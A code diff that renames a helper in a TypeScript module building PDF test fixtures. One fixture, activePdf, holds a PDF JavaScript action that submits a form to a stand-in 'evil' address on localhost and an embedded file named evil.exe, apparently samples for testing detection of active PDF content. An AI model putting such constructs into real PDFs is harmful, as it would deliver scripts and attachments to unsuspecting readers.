@@ -31,7 +31,7 @@ export function pdf(parts: PdfParts = {}): Buffer {
     [
       `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
       `<< /Type /Pages /Count ${pages} /Kids [${kids.join(' ')}] >>`,
-      streamOf(lock ? lock.encrypt(3, Buffer.from(content)) : Buffer.from(content)),
+      buildStream(lock ? lock.encrypt(3, Buffer.from(content)) : Buffer.from(content)),
       lock ? lock.dictionary : '<< >>',
       ...objects,
       ...kids.map(() => page),
@@ -48,15 +48,15 @@ export function activePdf(): Buffer {
     objects: [
       '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://127.0.0.1:9/evil"\\);) >>',
       '<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>',
-      streamOf(Buffer.from('MZ evil')),
-      streamOf(Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')),
+      buildStream(Buffer.from('MZ evil')),
+      buildStream(Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')),
     ],
   });
 }
 
 const squares = '0.2 0.4 0.6 rg 50 50 200 200 re f 0 g 300 500 100 100 re f';
 
-function streamOf(bytes: Buffer): Buffer {
+function buildStream(bytes: Buffer): Buffer {
   return Buffer.concat([
     Buffer.from(`<< /Length ${bytes.length} >>\nstream\n`),
     bytes,
